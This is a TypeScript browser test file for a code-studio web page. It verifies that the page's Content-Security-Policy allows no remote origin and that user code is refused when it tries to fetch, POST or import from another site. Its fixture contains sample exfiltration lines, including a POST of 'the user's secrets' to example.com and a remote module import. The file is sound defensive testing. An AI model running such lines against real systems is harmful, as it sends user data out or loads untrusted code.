import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { StudioPage } from "../studio-page.ts";

let studio: StudioPage;

before(async () => {
  studio = await StudioPage.open();
});

after(async () => {
  await studio?.close();
});

// Each attempt is caught, so the program ends normally and says what happened to each.
const EXFILTRATE = `
const attempts: [string, () => Promise<unknown>][] = [
  ["GET", () => fetch("https://example.com/data.json")],
  ["POST", () => fetch("https://example.com/collect", { method: "POST", body: "the user's secrets" })],
  ["import", () => new Function("return import('https://example.com/module.js')")()],
];
for (const [name, attempt] of attempts) {
  try {
    await attempt();
    console.log(name + ": reached the network");
  } catch (err) {
    console.log(name + ": refused");
  }
}
`;

test("the page and the built index.html carry a policy that names no other origin", async () => {
  const response = await studio.page.request.get(studio.server.url);
  const header = response.headers()["content-security-policy"] ?? "";
  assert.match(header, /connect-src 'self'/);
  assert.doesNotMatch(header, /https?:/, "no remote origin is allowed");
  const meta = await studio.page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
  assert.ok(meta && /script-src 'self'/.test(meta), `the built page has the policy as a meta tag too: ${meta}`);
});

test("user code cannot fetch, POST or import from another origin; each refusal is in the console panel", async () => {
  await studio.setCode(EXFILTRATE);
  await studio.run();
  const snap = await studio.finished(60_000);
  assert.equal(snap.status, "done", snap.error?.message);
  const lines = snap.console.map((c) => c.text);
  for (const name of ["GET", "POST", "import"]) assert.ok(lines.includes(`${name}: refused`), `${name} was refused: ${lines.join(" | ")}`);
  assert.ok(!lines.some((l) => l.includes("reached the network")));
  const blocked = snap.console.filter((c) => c.level === "error" && c.text.startsWith("blocked by the studio's Content-Security-Policy"));
  const said = (directive: RegExp, url: string) => blocked.some((c) => directive.test(c.text) && c.text.includes(url));
  assert.ok(said(/\(connect-src\)/, "https://example.com/data.json"), `the GET is reported: ${lines.join(" | ")}`);
  assert.ok(said(/\(connect-src\)/, "https://example.com/collect"), "the POST is reported");
  assert.ok(said(/\(script-src(-elem)?\)/, "https://example.com/module.js"), "the remote import is reported");
  await studio.page.waitForSelector('[data-testid="console"] .console-line.error');
  await studio.screenshot("csp-blocked");
});
